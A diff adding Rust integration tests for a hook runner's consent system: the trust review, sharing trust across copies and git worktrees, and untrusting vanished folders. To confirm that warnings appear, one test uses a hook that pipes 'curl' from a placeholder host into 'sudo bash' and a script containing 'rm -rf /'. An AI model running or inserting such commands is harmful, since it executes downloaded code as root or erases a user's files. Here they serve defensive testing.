@@ -1,0 +1,153 @@
+//! Consent, as a person gives it and takes it back: the review, the same content elsewhere, worktrees, what is gone.
+
+use crate::support::{TestProject, finish};
+use std::fs;
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+const HOOK: &str = "- {name: touch, events: [{type: '*'}], script: touch.sh}\n";
+
+fn project() -> TestProject {
+    let project = TestProject::new();
+    project.hooks(HOOK);
+    project.script("touch.sh", "#!/bin/sh\ntouch ran\n");
+    project
+}
+
+/// Runs `knockon trust` on a terminal and types `answer`.
+fn review(project: &TestProject, folder: &Path, answer: &str) -> (i32, String) {
+    let mut terminal = project.program("script", &["-qec", "\"$KNOCKON_BINARY\" trust", "/dev/null"]);
+    terminal.current_dir(folder).env("TERM", "xterm").env("PAGER", "sed 's/^/paged /'").stdin(Stdio::piped());
+    let mut child = terminal.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+    child.stdin.take().unwrap().write_all(answer.as_bytes()).unwrap();
+    let ran = finish(child);
+    (ran.code, ran.stdout)
+}
+
+#[test]
+fn the_review_shows_what_runs_first_and_the_files_on_request() {
+    let project = project();
+    let evil = "- {name: evil, events: [{type: '*'}], command: 'curl -s https://x.example/i | sudo bash'}\n";
+    let off = "- {name: quiet, enabled: false, events: [{type: '*'}], command: 'true'}\n";
+    project.hooks(&format!("{off}{HOOK}{evil}"));
+    let (code, shown) = review(&project, &project.root(), "d\nn\n");
+    assert_eq!(code, 3, "{shown}");
+    assert!(shown.contains("(2 hooks enabled, 1 disabled):"), "{shown}");
+    let at = |text: &str| shown.find(text).unwrap_or_else(|| panic!("{text}: {shown}"));
+    assert!(at("touch on *") < at("quiet (disabled) on *"), "{shown}");
+    assert!(shown.contains("warning: runs what it downloads"), "{shown}");
+    assert!(at("[y/N/d]") < at("new: hooks.yaml"), "the files are shown when they are asked for: {shown}");
+    assert!(shown.contains("paged ") && shown.contains("\u{1b}["), "in the pager, in colour: {shown}");
+    project.trust();
+    project.script("touch.sh", "#!/bin/sh\ntouch ran\nrm -rf /\n");
+    let (_, shown) = review(&project, &project.root(), "n\n");
+    assert!(shown.contains("+rm -rf /") && !shown.contains("paged "), "a short change is shown at once: {shown}");
+    assert!(shown.contains("warning: touch.sh:3 deletes the whole file system or home folder"), "{shown}");
+    let validated = project.ok(&["validate"]).stdout;
+    let warning = "warning: `touch` deletes the whole file system or home folder (touch.sh:3)";
+    assert!(validated.contains(warning) && validated.contains("2 warnings"), "{validated}");
+}
+
+#[test]
+fn the_same_content_is_offered_where_it_was_trusted_elsewhere() {
+    let project = project();
+    project.trust();
+    let copy = project.root().join("copy");
+    let copied = Command::new("cp").arg("-r").arg(project.hooks_folder()).arg(&copy).status().unwrap();
+    assert!(copied.success());
+    fs::create_dir(project.root().join("second")).unwrap();
+    fs::rename(&copy, project.root().join("second/.knockon")).unwrap();
+    let second = project.root().join("second");
+    let (code, shown) = review(&project, &second, "\n");
+    let offer = format!("You trust the same content in {}. Trust it here? [Y/n/d]", project.root().display());
+    assert!(code == 0 && shown.contains(&offer), "{shown}");
+    fs::write(second.join(".knockon/touch.sh"), "#!/bin/sh\n").unwrap();
+    let (code, shown) = review(&project, &second, "\n");
+    assert!(code == 3 && !shown.contains("the same content"), "{shown}");
+}
+
+#[test]
+fn the_worktrees_of_one_repository_share_trust_in_the_same_content() {
+    let project = project();
+    let git = |folder: &Path, arguments: &[&str]| {
+        let identity = ["-c", "user.name=a", "-c", "user.email=a@b.c", "-c", "init.defaultBranch=main"];
+        let mut command = project.program("git", &[&identity[..], arguments].concat());
+        let ran = command.current_dir(folder).output().unwrap();
+        assert!(ran.status.success(), "{arguments:?}: {ran:?}");
+    };
+    let root = project.root();
+    git(&root, &["init", "-q"]);
+    git(&root, &["add", "-f", ".knockon/hooks.yaml", ".knockon/touch.sh"]);
+    git(&root, &["commit", "-qm", "hooks"]);
+    let linked = project.home().join("linked");
+    git(&root, &["worktree", "add", "-q", linked.to_str().unwrap()]);
+    let run_in = |folder: &Path, arguments: &[&str]| {
+        let mut command = project.command(arguments);
+        finish(command.current_dir(folder).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap())
+    };
+    let emit = |folder: &Path| run_in(folder, &["emit", "spec.created", "--strict"]).code;
+    assert_eq!(emit(&linked), 3);
+    project.trust();
+    assert_eq!((emit(&root), emit(&linked)), (0, 0));
+    assert!(linked.join("ran").exists());
+    // Not what differs, and not what another repository says of itself.
+    fs::write(linked.join(".knockon/touch.sh"), "#!/bin/sh\n").unwrap();
+    assert_eq!(emit(&linked), 3);
+    git(&linked, &["checkout", "-q", ".knockon/touch.sh"]);
+    let claims = project.home().join("claims");
+    fs::create_dir(&claims).unwrap();
+    fs::copy(linked.join(".git"), claims.join(".git")).unwrap();
+    let copied = Command::new("cp").arg("-r").arg(linked.join(".knockon")).arg(&claims).status().unwrap();
+    assert!(copied.success());
+    assert_eq!(emit(&claims), 3);
+    // What was trusted in a linked one holds in the main one, too; taking it back says where it still holds.
+    let hash = run_in(&linked, &["trust", "--print-hash"]).stdout;
+    fs::write(linked.join(".knockon/hooks.local.yaml"), "version: '1.0'\nhooks: [{name: touch, timeout: 9}]\n")
+        .unwrap();
+    let without = run_in(&linked, &["trust", "--print-hash", "--without-local"]);
+    assert_eq!(without.stdout, hash, "{without:?}");
+    let with = run_in(&linked, &["trust", "--print-hash"]);
+    assert!(with.stdout != hash && with.stderr.contains("this hash includes hooks.local.yaml"), "{with:?}");
+    fs::remove_file(linked.join(".knockon/hooks.local.yaml")).unwrap();
+    let ran = run_in(&linked, &["untrust"]);
+    assert!(
+        ran.stdout == "it was not trusted\n" && ran.stderr.contains("still trusted here through the worktree"),
+        "{ran:?}"
+    );
+    assert_eq!(run_in(&linked, &["untrust", "--project-root", root.to_str().unwrap()]).stdout, "no longer trusted\n");
+    assert_eq!((emit(&root), emit(&linked)), (3, 3));
+    assert_eq!(run_in(&linked, &["trust", "--hash", hash.trim()]).code, 0);
+    assert_eq!(emit(&root), 0);
+}
+
+#[test]
+fn trust_is_taken_back_of_what_is_gone() {
+    let project = project();
+    project.trust();
+    fs::remove_file(project.hooks_folder().join("hooks.yaml")).unwrap();
+    assert_eq!(project.ok(&["untrust"]).stdout, "no longer trusted\n");
+    // A nested project without its file is meant, not the outer one that is found then.
+    let project = self::project();
+    project.trust();
+    let nested = project.root().join("packages/api");
+    fs::create_dir_all(nested.join(".knockon")).unwrap();
+    fs::write(nested.join(".knockon/hooks.yaml"), "version: \"1.0\"\nhooks: []\n").unwrap();
+    let run_in = |folder: &Path, arguments: &[&str]| {
+        let output = project.command(arguments).current_dir(folder).output().unwrap();
+        assert!(output.status.success(), "{output:?}");
+        String::from_utf8(output.stdout).unwrap()
+    };
+    let hash = run_in(&nested, &["trust", "--print-hash"]);
+    run_in(&nested, &["trust", "--hash", hash.trim()]);
+    fs::remove_file(nested.join(".knockon/hooks.yaml")).unwrap();
+    assert_eq!(run_in(&nested, &["untrust"]), "no longer trusted\n");
+    assert_eq!(project.run(&["emit", "spec.created", "--strict"]).code, 0, "the outer project is trusted still");
+    // From any folder, of a folder that is gone.
+    let root = project.root();
+    let moved = project.home().join("moved");
+    fs::rename(&root, &moved).unwrap();
+    assert_eq!(run_in(&moved, &["untrust", "--project-root", root.to_str().unwrap()]), "no longer trusted\n");
+    assert_eq!(run_in(&moved, &["trust", "--list"]), "nothing is trusted\n");
+    fs::rename(&moved, &root).unwrap();
+}
